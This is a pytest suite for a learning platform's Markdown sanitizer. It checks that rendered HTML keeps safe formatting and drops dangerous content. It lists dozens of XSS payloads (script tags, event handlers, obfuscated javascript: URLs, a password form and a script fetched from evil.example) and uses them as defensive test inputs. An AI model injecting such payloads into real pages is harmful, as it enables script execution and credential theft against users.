"""Authored Markdown is rendered through an allowlist: no script, no handlers, no
javascript: URLs, whatever the file says (docs/authoring.en.md)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.content.markdown import ALLOWED_TAGS, render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://ok.example/a.png" OnError="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example"><input name="p" type="password"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](<javascript:alert(1)>)",
    '[click](javascript:alert(1) "title")',
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "![img](javascript:alert(1))",
    "![img](data:image/png;base64,iVBORw0KGgo=)",
    "<javascript:alert(1)>",
    "A paragraph\n{: onclick=\"alert(1)\" }",
    "## Heading {onmouseover=alert(1)}",
    '[link](https://ok.example){onclick="alert(1)"}',
    "![x](https://ok.example/a.png){onerror=alert(1) style=\"x\"}",
    "Para {: style=\"position:fixed\" }",
    "!!! note \"<img src=x onerror=alert(1)>\"\n    body",
    "Term\n: <script>alert(1)</script>",
    "Footnote[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <a href=\"javascript:alert(1)\">x</a> |",
    "```html\n<script>alert(1)</script>\n```",
]

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "style", "form", "input", "button",
                  "textarea", "select", "meta", "base", "link", "svg", "math", "body", "video",
                  "source", "template", "noscript", "frame", "frameset"}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster"}
SAFE_SCHEMES = ("http:", "https:", "mailto:")


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def elements(html: str):
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def _scheme_of(url: str) -> str:
    # Browsers ignore whitespace and control characters inside a scheme.
    squeezed = "".join(ch for ch in url if ord(ch) > 32).lower()
    match = re.match(r"[a-z][a-z0-9+.-]*:", squeezed)
    return match.group(0) if match else ""


def assert_safe(html: str) -> None:
    assert "<script" not in html.lower()
    for tag, attrs in elements(html):
        assert tag not in FORBIDDEN_TAGS, (tag, html)
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs:
            assert not name.startswith("on"), (name, html)
            assert name != "style", html
            if name in URL_ATTRIBUTES and value:
                scheme = _scheme_of(value)
                assert scheme in ("",) + SAFE_SCHEMES, (value, html)


def test_there_are_enough_payloads():
    assert len(PAYLOADS) >= 25


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload):
    assert_safe(render_markdown(payload).html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised_with_link_rewriting(payload):
    # The course loader rewrites relative links before sanitizing; that path too.
    from lms.content.links import LinkRewriter
    rewriter = LinkRewriter("c", "courses/c/01-x.md", payload, 4)
    assert_safe(render_markdown(payload, rewrite_url=rewriter).html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_inside_a_table_cell_and_list(payload):
    first_line = payload.splitlines()[0]
    assert_safe(render_markdown(f"- item {first_line}\n\n| x |\n|---|\n| {first_line} |\n").html)


_FRAGMENTS = st.sampled_from([
    "<", ">", "\"", "'", "=", " ", "\n", "javascript:", "JaVa", "script", "&#106;", "&#x3A;",
    "onerror", "onload", "img", "a", "href", "src", "svg", "(", ")", "[", "]", "{", "}", ":",
    "alert(1)", "!", "#", "- ", "`", "/", "\t", "&", ";", "style", "data:", "iframe",
])


@settings(max_examples=300, deadline=None)
@given(st.lists(_FRAGMENTS, max_size=40).map("".join))
def test_random_fragments_are_safe(text):
    assert_safe(render_markdown(text).html)


# -- what must survive -------------------------------------------------------------

def test_heading_ids_and_toc_survive():
    rendered = render_markdown("## Hello World\n\n## 音声認識の仕組み\n\n### Custom {#my-id}\n")
    ids = [dict(attrs).get("id") for tag, attrs in elements(rendered.html) if tag in ("h2", "h3")]
    assert ids == ["hello-world", "音声認識の仕組み", "my-id"]
    assert [(e.level, e.id) for e in rendered.toc] == \
        [(2, "hello-world"), (2, "音声認識の仕組み"), (3, "my-id")]


def test_code_language_class_survives_and_code_is_escaped():
    html = render_markdown("```python\nprint('<script>')\n```\n").html
    assert '<code class="language-python">' in html
    assert "&lt;script&gt;" in html


def test_https_images_survive():
    html = render_markdown('![A diagram](https://cdn.example.com/a.png "Title")').html
    (img,) = [dict(attrs) for tag, attrs in elements(html) if tag == "img"]
    assert img == {"src": "https://cdn.example.com/a.png", "alt": "A diagram", "title": "Title"}


def test_tables_survive():
    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |\n").html
    tags = [tag for tag, _ in elements(html)]
    assert {"table", "thead", "tbody", "tr", "th", "td"} <= set(tags)


def test_admonitions_footnotes_and_definition_lists_survive():
    html = render_markdown("!!! note\n    Be careful.\n\nText[^1]\n\n[^1]: A note.\n\n"
                           "Term\n: Definition\n").html
    assert '<div class="admonition note">' in html
    assert 'class="admonition-title"' in html
    assert 'href="#fn:1"' in html and 'id="fn:1"' in html
    assert "<dl>" in html and "<dt>Term</dt>" in html


def test_safe_links_survive_and_unknown_classes_go():
    html = render_markdown('[site](https://example.com) [mail](mailto:a@example.com) '
                           '[anchor](#x)\n\nPara\n{: .evil-class .language-js }').html
    hrefs = [dict(attrs)["href"] for tag, attrs in elements(html) if tag == "a"]
    assert hrefs == ["https://example.com", "mailto:a@example.com", "#x"]
    assert "evil-class" not in html and 'class="language-js"' in html


def test_gfm_task_lists_become_disabled_checkboxes_with_their_text_as_label():
    html = render_markdown("- [ ] 見積書を作る\n- [x] **ヒアリング**完了\n- 普通の項目\n").html
    assert '<ul class="task-list">' in html
    assert ('<li class="task-list-item"><label><input type="checkbox" disabled>'
            ' 見積書を作る</label></li>') in html
    assert ('<label><input type="checkbox" disabled checked> '
            '<strong>ヒアリング</strong>完了</label>') in html
    assert "<li>普通の項目</li>" in html and "[ ]" not in html and "[x]" not in html


def test_an_authored_input_is_still_removed():
    html = render_markdown('<input type="text" name="card" value="x" onfocus="alert(1)"> [ ] x').html
    assert "<input" not in html
    assert_safe(html)
